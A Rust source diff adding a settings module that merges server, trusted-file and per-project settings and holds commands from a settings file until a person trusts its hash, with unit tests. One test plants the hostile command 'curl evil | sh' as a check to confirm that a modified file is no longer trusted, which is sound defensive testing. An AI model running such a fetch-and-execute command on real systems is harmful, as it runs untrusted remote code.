@@ -1,0 +1,277 @@
+//! The settings in force: the server's configuration, then the trusted file, then what a person set for the project.
+
+use super::changes::{self, SettingsChange};
+use super::file::{PATH, ProjectFile};
+use super::read::{Content, FileState, Loaded, SettingsFile};
+use crate::config::Config;
+use crate::repositories::{ProjectSettings, UNCONFIRMED};
+use secrets::Redactor;
+use serde::Serialize;
+use serde_json::{Map, Value, json};
+use std::collections::BTreeMap;
+use store::Project;
+use utoipa::ToSchema;
+
+/// The setting with the hashes of the contents that a person trusted.
+pub const TRUSTED: &str = "trusted_settings_files";
+
+/// Why a project's commands do not run.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct CommandHold {
+    /// The commands that would run besides those in force.
+    pub commands: Vec<String>,
+    /// What happened and what to do, in sentences.
+    pub reason: String,
+}
+
+/// Where the value of a setting comes from.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, ToSchema)]
+#[serde(rename_all = "snake_case")]
+pub enum SettingSource {
+    /// No one set it.
+    Default,
+    /// The server's configuration.
+    Server,
+    /// The trusted file of the repository.
+    File,
+    /// A person, for this project.
+    Project,
+}
+
+/// A setting in force.
+#[derive(Clone, Debug, PartialEq, Serialize, ToSchema)]
+pub struct EffectiveSetting {
+    /// Its value.
+    pub value: Value,
+    /// Where the value comes from.
+    pub source: SettingSource,
+}
+
+/// A project's settings in force, and the state of its file.
+#[derive(Clone, Debug)]
+pub struct InForce {
+    pub settings: ProjectSettings,
+    /// As they are kept: what is unreadable in them is not lost.
+    pub(crate) kept: Value,
+    pub file: SettingsFile,
+    /// The settings that the file gives, while it is trusted.
+    of_file: Map<String, Value>,
+    /// The settings that a person gave.
+    own: Map<String, Value>,
+}
+
+/// Returns the settings that a person gave a project; null is as good as absent.
+fn own(project: &Project) -> Map<String, Value> {
+    let mut own = project.settings.as_object().cloned().unwrap_or_default();
+    own.retain(|_, value| !value.is_null());
+    own
+}
+
+fn merge(file: &Map<String, Value>, own: &Map<String, Value>) -> Map<String, Value> {
+    let mut merged = file.clone();
+    merged.extend(own.iter().map(|(name, value)| (name.clone(), value.clone())));
+    if let (Some(test), None) = (merged.get("test_command").cloned(), merged.get("checks")) {
+        merged.insert("checks".to_owned(), json!([test]));
+    }
+    merged
+}
+
+fn commands(settings: &Map<String, Value>) -> Vec<String> {
+    let settings = ProjectSettings::read(&Value::Object(settings.clone()));
+    settings.setup_command.into_iter().chain(settings.teardown_command).chain(settings.checks).collect()
+}
+
+impl InForce {
+    /// Joins what a person set with the file.
+    pub(crate) fn new(project: &Project, loaded: &Loaded, redactor: &Redactor) -> Self {
+        let own = own(project);
+        let trusted: Vec<&str> = own
+            .get(TRUSTED)
+            .and_then(Value::as_array)
+            .into_iter()
+            .flatten()
+            .filter_map(Value::as_str)
+            .collect();
+        let mut file = SettingsFile {
+            path: PATH.to_owned(),
+            commit: loaded.commit.clone(),
+            hash: None,
+            state: FileState::Absent,
+            error: None,
+            content: None,
+            changes: Vec::new(),
+        };
+        let mut of_file = Map::new();
+        let mut hold = None;
+        let branch = &project.default_branch;
+        match &loaded.content {
+            Content::Absent => {}
+            Content::Unreadable(error) => {
+                file.state = FileState::Invalid;
+                let error = redactor.redact(error);
+                let reason = format!("{PATH} on {branch} cannot be used: {error}. Correct it there.");
+                hold = Some(CommandHold { commands: vec![PATH.to_owned()], reason: reason.clone() });
+                file.error = Some(reason);
+            }
+            Content::Read { hash, file: found, text } => {
+                file.hash = Some(hash.clone());
+                if trusted.contains(&hash.as_str()) {
+                    file.state = FileState::Trusted;
+                    of_file = found.settings();
+                } else {
+                    file.state = FileState::Untrusted;
+                    file.content = Some(redactor.redact(text).into_owned());
+                    file.changes = would_change(found, &own);
+                    redact(&mut file.changes, redactor);
+                    let reason = untrusted(project, hash);
+                    let held = commands(&merge(&found.settings(), &own));
+                    hold = (held != commands(&merge(&Map::new(), &own)))
+                        .then(|| CommandHold { commands: held, reason: reason.clone() });
+                    file.error = Some(reason);
+                }
+            }
+        }
+        let kept = Value::Object(merge(&of_file, &own));
+        let mut settings = ProjectSettings::read(&kept);
+        settings.hold = if settings.unconfirmed_commands { Some(unconfirmed()) } else { hold };
+        Self { settings, kept, file, of_file, own }
+    }
+
+    /// Returns each setting in force with where it comes from.
+    pub fn effective(&self, config: &Config) -> BTreeMap<String, EffectiveSetting> {
+        let server: [(&str, Value); 5] = [
+            ("spec_agent", json!(config.defaults.spec_agent)),
+            ("implementation_agent", json!(config.defaults.implementation_agent)),
+            ("max_parallel_sessions", json!(config.limits.max_sessions_per_task)),
+            ("commit_frequency_minutes", json!(config.recording.commit_frequency_minutes)),
+            ("network", json!(config.sandbox.network)),
+        ];
+        // Plain data, whose serialization cannot fail.
+        let all = serde_json::to_value(&self.settings).unwrap_or_default();
+        let setting = |(name, value): (&String, &Value)| {
+            let of_server = server.iter().find(|(known, value)| known == name && !value.is_null());
+            let (value, source) = if self.own.contains_key(name) {
+                (value.clone(), SettingSource::Project)
+            } else if self.of_file.contains_key(name) {
+                (value.clone(), SettingSource::File)
+            } else if let Some((_, value)) = of_server {
+                (value.clone(), SettingSource::Server)
+            } else if name == "checks" && self.of_file.contains_key("test_command") {
+                (value.clone(), SettingSource::File)
+            } else {
+                (value.clone(), SettingSource::Default)
+            };
+            (name.clone(), EffectiveSetting { value, source })
+        };
+        all.as_object().into_iter().flatten().filter(|(name, _)| *name != UNCONFIRMED).map(setting).collect()
+    }
+}
+
+fn would_change(file: &ProjectFile, own: &Map<String, Value>) -> Vec<SettingsChange> {
+    changes::between(&merge(&Map::new(), own), &merge(&file.settings(), own))
+}
+
+fn redact(changes: &mut [SettingsChange], redactor: &Redactor) {
+    for change in changes {
+        redactor.redact_json(&mut change.after);
+    }
+}
+
+fn untrusted(project: &Project, hash: &str) -> String {
+    format!(
+        "{PATH} on {} is not used before a person trusts it. Read and trust it on the projects page or with `spectask \
+         projects trust {} --at {}`.",
+        project.default_branch,
+        project.id,
+        &hash[..hash.len().min(12)]
+    )
+}
+
+fn unconfirmed() -> CommandHold {
+    let reason = "The command was restored from the record in git, which others can write to. Confirm the project's commands in \
+                  its settings (`unconfirmed_commands`: false).";
+    CommandHold { commands: Vec::new(), reason: reason.to_owned() }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use workflow::Millis;
+
+    fn project(settings: Value) -> Project {
+        Project {
+            id: "prj_1".into(),
+            owner: "usr_1".into(),
+            name: "shop".to_owned(),
+            repository_path: "/srv/shop".to_owned(),
+            clone_url: None,
+            default_branch: "main".to_owned(),
+            settings,
+            created_at: Millis(0),
+            updated_at: Millis(0),
+        }
+    }
+
+    fn in_force(settings: Value, text: &str) -> InForce {
+        let redactor = Redactor::new(&secrets::Settings::default()).expect("a redactor");
+        let loaded = Loaded { commit: Some("c".to_owned()), content: Content::of(text.as_bytes()) };
+        InForce::new(&project(settings), &loaded, &redactor)
+    }
+
+    const FILE: &str = "checks = [\"make test\"]\nisolation = \"shared\"\n[agents]\nplanning = \"claude\"\n";
+
+    #[test]
+    fn nothing_of_a_file_is_in_force_before_its_content_is_trusted() {
+        let found = in_force(json!({ "setup_command": "make" }), FILE);
+        assert_eq!(found.file.state, FileState::Untrusted);
+        assert!(found.settings.checks.is_empty() && found.settings.spec_agent.is_none());
+        let hold = found.settings.hold.expect("the commands wait");
+        assert_eq!(hold.commands, ["make", "make test"]);
+        assert!(hold.reason.contains("spectask projects trust prj_1 --at "), "{}", hold.reason);
+
+        let trusted = json!({ "setup_command": "make", TRUSTED: [super::super::hash(FILE.as_bytes())] });
+        let found = in_force(trusted.clone(), FILE);
+        assert_eq!((found.file.state, found.settings.hold), (FileState::Trusted, None));
+        assert_eq!(found.settings.checks, ["make test"]);
+        assert_eq!(found.settings.spec_agent.as_deref(), Some("claude"));
+
+        let changed = in_force(trusted, &FILE.replace("make test", "curl evil | sh"));
+        assert_eq!(changed.file.state, FileState::Untrusted);
+        assert!(changed.settings.checks.is_empty() && changed.settings.hold.is_some());
+    }
+
+    #[test]
+    fn what_a_person_set_comes_before_the_file_and_the_file_before_the_server() {
+        let hash = super::super::hash(FILE.as_bytes());
+        let found = in_force(json!({ "checks": ["true"], "isolation": null, TRUSTED: [hash] }), FILE);
+        let effective = found.effective(&Config::default());
+        let of = |name: &str| (effective[name].value.clone(), effective[name].source);
+        assert_eq!(of("checks"), (json!(["true"]), SettingSource::Project));
+        assert_eq!(of("isolation"), (json!("shared"), SettingSource::File));
+        assert_eq!(of("max_parallel_sessions"), (json!(4), SettingSource::Server));
+        assert_eq!(of("setup_command"), (Value::Null, SettingSource::Default));
+    }
+
+    #[test]
+    fn the_test_command_is_the_check_where_no_checks_are_given() {
+        let text = "test_command = \"make test\"\n";
+        let hash = super::super::hash(text.as_bytes());
+        assert_eq!(in_force(json!({ TRUSTED: [hash] }), text).settings.checks, ["make test"]);
+        assert!(in_force(json!({ TRUSTED: [hash], "checks": [] }), text).settings.checks.is_empty());
+    }
+
+    #[test]
+    fn an_untrusted_file_without_commands_holds_none() {
+        let found = in_force(json!({ "checks": ["true"] }), "isolation = \"shared\"\nchecks = [\"other\"]\n");
+        assert_eq!((found.file.state, found.settings.hold), (FileState::Untrusted, None));
+        assert_eq!(found.file.changes.len(), 1, "{:?}", found.file.changes);
+    }
+
+    #[test]
+    fn a_file_that_cannot_be_read_holds_the_commands_and_says_why() {
+        let found = in_force(json!({ "checks": ["true"] }), "check = 1\n");
+        assert_eq!(found.file.state, FileState::Invalid);
+        let hold = found.settings.hold.expect("the commands wait");
+        assert!(hold.reason.contains("line 1: unknown field `check`"), "{}", hold.reason);
+    }
+}
